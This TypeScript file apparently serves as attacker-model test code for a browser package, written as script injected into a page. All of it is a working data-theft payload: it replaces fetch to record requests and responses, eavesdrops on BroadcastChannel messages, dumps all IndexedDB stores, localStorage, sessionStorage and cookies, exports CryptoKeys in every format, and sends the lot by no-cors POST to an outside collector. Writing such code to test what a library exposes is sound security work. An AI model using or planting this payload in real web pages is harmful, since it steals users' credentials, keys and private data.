// Script that somebody has brought into the page, as through a hole in the app or with a bad dependency. It knows nothing of the package.

/** The things that script of a page can copy, as text. */
export interface Loot {
  indexedDB: unknown;
  localStorage: unknown;
  sessionStorage: unknown;
  cookies: unknown;
  /** The messages between the tabs. */
  messages: unknown;
  /** The page's requests with their answers, as a replaced `fetch` sees them. */
  requests: unknown;
}

declare global {
  /** In the page, after {@link lieInWait}. */
  var trap: { requests: unknown[]; messages: unknown[]; send: typeof fetch };
}

/** In the page. Replaces `fetch`, and listens to every channel. */
export async function lieInWait(): Promise<void> {
  const send = globalThis.fetch;
  const requests: unknown[] = [];
  const messages: unknown[] = [];
  globalThis.trap = { requests, messages, send };

  globalThis.fetch = async (input, init) => {
    const copy = new Request(input instanceof Request ? input.clone() : input, init);
    const request: Record<string, unknown> = { url: copy.url, method: copy.method, headers: [...copy.headers], body: await copy.text() };
    requests.push(request);
    const answer = await send(input, init);
    request.answer = await answer.clone().text();
    return answer;
  };

  const channels = new Map<string, BroadcastChannel>();
  const listen = (name: string) => {
    if (channels.has(name)) return;
    const channel = new BroadcastChannel(name);
    channel.onmessage = ({ data }) => messages.push(data);
    channels.set(name, channel);
  };
  const post = BroadcastChannel.prototype.postMessage;
  BroadcastChannel.prototype.postMessage = function (message) {
    listen(this.name);
    messages.push(message);
    post.call(this, message);
  };
  // Libraries like to use one name for everything.
  for (const { name } of await indexedDB.databases()) if (name) listen(name);
}

/** In the page. Copies everything, and sends it as text to another origin. */
export async function sendAway(collector: string): Promise<void> {
  const settled = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const base64 = (data: ArrayBuffer) => btoa(String.fromCharCode(...new Uint8Array(data)));

  /** Exports the key in each format that the browser has. */
  async function ofKey(key: CryptoKey): Promise<unknown> {
    const exported: Record<string, unknown> = { type: key.type };
    for (const format of ["jwk", "pkcs8", "spki", "raw"] as const) {
      exported[format] = await (crypto.subtle.exportKey(format, key) as Promise<JsonWebKey | ArrayBuffer>).then(
        (data) => (data instanceof ArrayBuffer ? base64(data) : data),
        ({ name }) => `it cannot be exported: ${name}`,
      );
    }
    return exported;
  }

  async function asText(value: unknown): Promise<unknown> {
    if (value instanceof CryptoKey) return ofKey(value);
    if (value instanceof ArrayBuffer) return base64(value);
    if (ArrayBuffer.isView(value)) return base64(value.buffer as ArrayBuffer);
    if (value instanceof Map || value instanceof Set) return asText([...value]);
    if (Array.isArray(value)) return Promise.all(value.map(asText));
    if (typeof value !== "object" || value === null) return String(value);
    const members = Object.entries(value).map(async ([name, member]) => [name, await asText(member)] as const);
    return Object.fromEntries(await Promise.all(members));
  }

  const stored: unknown[] = [];
  for (const { name } of await indexedDB.databases()) {
    if (!name) continue;
    const connection = await settled(indexedDB.open(name));
    for (const table of connection.objectStoreNames) {
      const records = connection.transaction(table).objectStore(table);
      stored.push({ name, table, keys: await settled(records.getAllKeys()), values: await settled(records.getAll()) });
    }
    connection.close();
  }
  const { requests, messages, send } = globalThis.trap;
  const all = { indexedDB: stored, localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookies: document.cookie };
  const body = JSON.stringify(await asText({ ...all, messages, requests }));
  await send(collector, { method: "POST", mode: "no-cors", body });
}
